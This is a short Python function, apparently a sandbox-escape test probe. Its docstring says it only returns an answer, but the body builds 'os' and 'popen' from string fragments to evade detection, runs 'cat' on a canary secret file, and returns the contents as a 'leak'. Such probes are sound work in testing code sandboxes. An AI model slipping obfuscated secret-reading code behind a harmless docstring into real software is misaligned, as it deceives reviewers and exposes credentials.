def escape_getattr() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        leak = getattr(__import__("o" + "s"), "po" + "pen")("cat " + CANARY_SECRET).read()
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
